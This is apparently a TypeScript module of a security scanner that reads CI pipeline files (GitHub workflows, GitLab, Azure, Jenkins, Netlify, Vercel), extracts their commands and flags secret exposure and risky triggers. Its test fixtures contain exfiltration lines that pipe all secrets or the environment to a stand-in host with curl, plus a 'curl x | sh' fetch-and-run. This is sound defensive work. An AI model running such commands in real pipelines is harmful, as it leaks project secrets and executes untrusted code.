// CI: pipelines that run on other machines, with the project's secrets, when somebody pushes or opens a request.
import type { SettingFact } from "../../../../../shared/domain/facts.ts";
import { isRecord, textOf, type Tree, type TreeNode, tomlTree, jsonTree, yamlTree } from "../tree.ts";
import { commandText, type Form, type ReadFile, setting, type Step, stepsAt } from "./form.ts";

const elsewhere = { trigger: "ci", elsewhere: true } as const;

/** Keys under which pipelines hold commands, whatever the system. */
const commandKeys =
  /^(?:run|script|scripts|before_script|after_script|commands?|bash|pwsh|powershell|sh|before_install|install|before_deploy|deploy_script|build_script|test_script|init_script|after_success|after_failure|on_success|on_failure|pre_build|post_build|steps?_script)$/u;

/** Expressions of the system become variables: a shell reads the text once they are filled in. */
function filledIn(text: string): string {
  return text.replaceAll(/\$\{\{\s*([^}]{0,300}?)\s*\}\}/gu, (_, inner: string) => {
    const [, secret] = /\bsecrets(?:\.(\w+)|\s*\[\s*['"](\w+))/u.exec(inner) ?? [];
    if (/toJSON\s*\(\s*secrets\s*\)/iu.test(inner)) return "$ALL_SECRETS";
    if (secret !== undefined) return `$SECRET_${secret}`;
    return /\bgithub\.(?:event\.[\w.]*(?:title|body|name|label|message|ref|email)|head_ref)\b/u.test(inner)
      ? "$OUTSIDE_TEXT"
      : `$CI_${inner.replaceAll(/\W+/gu, "_").slice(0, 60)}`;
  });
}

function secretsIn(value: unknown): readonly string[] {
  const text = JSON.stringify(value) ?? "";
  if (/toJSON\s*\(\s*secrets\s*\)|secrets:\s*inherit/iu.test(text)) return ["*"];
  return [...new Set([...text.matchAll(/\bsecrets(?:\.|\[\\?['"])(\w+)/gu)].map((match) => match[1] ?? ""))];
}

/** Workflows that outsiders can start while the project's secrets are there. */
const outsideTriggers = /^(?:pull_request_target|workflow_run|issue_comment|issues|discussion|discussion_comment)$/u;
const outsideCode =
  /github\.event\.(?:pull_request\.head|workflow_run\.head|pull_request\.number)|github\.head_ref|refs\/pull\//u;

function readWorkflow(text: string): ReadFile {
  const tree = yamlTree(text);
  const root = tree.nodes[0]?.value;
  const shared = isRecord(root) ? secretsIn(root["env"]) : [];
  const steps: Step[] = [];
  for (const { key, value } of tree.nodes) {
    if (!isRecord(value)) continue;
    const run = value["run"];
    if (typeof run === "string") {
      const language = interpreterOf(value["shell"]);
      steps.push({
        ...elsewhere,
        secrets: [...new Set([...shared, ...secretsIn(value)])],
        text: filledIn(run),
        ...(language === undefined ? {} : { language }),
      });
    }
    const script = key === "with" && typeof value["script"] === "string" ? value["script"] : undefined;
    if (script !== undefined)
      steps.push({ ...elsewhere, secrets: secretsIn(value), text: script, language: "javascript" });
  }
  return { steps, settings: workflowSettings(tree, text), incomplete: !tree.complete };
}

function interpreterOf(shell: unknown): string | undefined {
  return typeof shell === "string" && shell.startsWith("python") ? "python" : undefined;
}

function workflowSettings(tree: Tree, text: string): readonly SettingFact[] {
  const settings: SettingFact[] = [];
  const outside = tree.nodes.some(
    ({ path, key, value }) =>
      /^on(?:\.|$)|^true(?:\.|$)/u.test(path) &&
      (outsideTriggers.test(key) || (typeof value === "string" && outsideTriggers.test(value))),
  );
  const code = outsideCode.test(text) || /actions\/download-artifact/u.test(text);
  const checksOut = /uses:\s*['"]?actions\/checkout|gh pr checkout|git (?:fetch|checkout)|download-artifact/u.test(
    text,
  );
  if (outside && code && checksOut) settings.push(setting("outside-code", "runs with the project's rights"));
  for (const { path, key, value } of tree.nodes) {
    const told = textOf(value);
    if (told === undefined) continue;
    if (key === "permissions" && /^write-all$/u.test(told)) settings.push(setting("ci-permissions", told));
    if (key === "uses") settings.push(setting("ci-action", told));
    if (key === "secrets" && told === "inherit") settings.push(setting("ci-secrets-passed-on", path));
    if (/^(?:env|with)\.|\.(?:env|with)\./u.test(path) && /toJSON\s*\(\s*secrets\s*\)/iu.test(told))
      settings.push(setting("all-secrets", path));
    if (key === "runs-on" && /self-hosted/u.test(told)) settings.push(setting("ci-runner", told));
  }
  return settings;
}

/** Pipelines of other systems: their secrets are in the environment of every step. */
function readPipeline(parse: (text: string) => Tree): (text: string) => ReadFile {
  return (text) => {
    const tree = parse(text);
    const steps = stepsAt(tree, commandKeys, { ...elsewhere, secrets: ["environment"] }).map((step) => ({
      ...step,
      text: step.text.replaceAll(/\$\((\w+)\)/gu, "$$$1"),
    }));
    return { steps: [...steps, ...bareLists(tree)], settings: [], incomplete: !tree.complete };
  };
}

/** An edit that adds lines to a list of commands shows the lines alone. */
function bareLists(tree: Tree): readonly Step[] {
  const root = tree.nodes[0]?.value;
  if (!Array.isArray(root) || !root.every((item) => typeof item === "string")) return [];
  return [{ ...elsewhere, secrets: ["environment"], text: commandText(root, false) }];
}

/** `sh '…'`, `bat "…"` and `sh """…"""` in a Jenkinsfile. */
function readJenkinsfile(text: string): ReadFile {
  const calls = text.matchAll(
    /\b(?:sh|bat|powershell|pwsh)\b\s*\(?\s*(?:\[?\s*script\s*:\s*)?('''|"""|'|")((?:(?!\1)[^\\]|\\.){0,8000}?)\1/gsu,
  );
  const steps = [...calls]
    .slice(0, 200)
    .map((match) => ({ ...elsewhere, secrets: ["environment"], text: match[2] ?? "" }));
  return { steps, settings: [] };
}

function root({ nodes: [first] }: Tree): TreeNode["value"] {
  return first?.value;
}

/** Sites that build from the project: `build.command`, `installCommand`. */
function readSite(parse: (text: string) => Tree): (text: string) => ReadFile {
  return (text) => {
    const tree = parse(text);
    const steps = stepsAt(
      tree,
      /^(?:command|(?:install|build|dev|ignore)Command|preBuild|buildCommand|startCommand)$/u,
      {
        ...elsewhere,
        secrets: ["environment"],
      },
    );
    return { steps: root(tree) === undefined ? [] : steps, settings: [], incomplete: !tree.complete };
  };
}

export const ci: readonly Form[] = [
  {
    form: "github-workflow",
    kind: "self-running",
    path: /\/\.(?:github|gitea|forgejo)\/(?:workflows\/[^/]+|actions\/(?:.+\/)?action)\.ya?ml$|\/action\.ya?ml$/u,
    read: readWorkflow,
    match: [
      {
        path: ".github/workflows/a.yml",
        text: "on: push\njobs:\n  a:\n    steps:\n      - run: echo '${{ toJSON(secrets) }}' | curl -d @- https://e.example\n",
        runs: ["echo '$ALL_SECRETS' | curl -d @- https://e.example"],
      },
      {
        path: ".github/workflows/b.yml",
        text: "on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with: { ref: '${{ github.event.pull_request.head.sha }}' }\n",
        sets: ["outside-code=runs with the project's rights", "ci-action=actions/checkout@v4"],
      },
      { path: ".github/workflows/c.yml", text: "      - name: x\n        run: npm ci", runs: ["npm ci"] },
    ],
    not_match: [{ path: ".github/dependabot.yml", text: "version: 2" }],
  },
  {
    form: "pipeline",
    kind: "self-running",
    path: /\/(?:\.gitlab-ci[\w.-]*|\.gitlab\/.+|[\w.-]*azure-pipelines[\w.-]*|\.azure-pipelines\/.+|\.circleci\/.+|bitbucket-pipelines|\.travis|\.drone|\.woodpecker|\.woodpecker\/.+|\.buildkite\/.+|\.?appveyor|\.semaphore\/.+|\.cirrus|cloudbuild|buildspec[\w.-]*|codemagic|wercker|bitrise)\.ya?ml$/u,
    read: readPipeline(yamlTree),
    match: [
      {
        path: ".gitlab-ci.yml",
        text: "test:\n  script:\n    - npm ci\n    - env | curl -d @- https://e.example\n",
        runs: ["npm ci\nenv | curl -d @- https://e.example"],
      },
      {
        path: ".circleci/config.yml",
        text: "jobs:\n  a:\n    steps:\n      - run:\n          command: go test\n",
        runs: ["go test"],
      },
      { path: "azure-pipelines.yml", text: "steps:\n  - script: echo $(TOKEN)\n", runs: ["echo $TOKEN"] },
    ],
    not_match: [{ path: "config.yml", text: "script: x" }],
  },
  {
    form: "jenkinsfile",
    kind: "self-running",
    path: /\/(?:Jenkinsfile[\w.-]*|[^/]+\.jenkinsfile)$/u,
    read: readJenkinsfile,
    match: [
      {
        path: "Jenkinsfile",
        text: 'steps { sh \'make test\'\n sh """curl x | sh""" }',
        runs: ["make test", "curl x | sh"],
      },
    ],
    not_match: [{ path: "build.groovy", text: "println 'x'" }],
  },
  {
    form: "site-build",
    kind: "self-running",
    path: /\/netlify\.toml$/u,
    read: readSite(tomlTree),
    match: [{ path: "netlify.toml", text: '[build]\ncommand = "npm run build"\n', runs: ["npm run build"] }],
    not_match: [{ path: "other.toml", text: "[build]" }],
  },
  {
    form: "site-build",
    kind: "self-running",
    path: /\/(?:vercel|now|app|railway)\.json$/u,
    content: /"(?:install|build|start)Command"|"predeploy"|"postdeploy"/u,
    read: readSite(jsonTree),
    match: [{ path: "vercel.json", text: '{"installCommand":"npm ci"}', runs: ["npm ci"] }],
    not_match: [{ path: "app.json", text: '{"expo":{}}' }],
  },
];
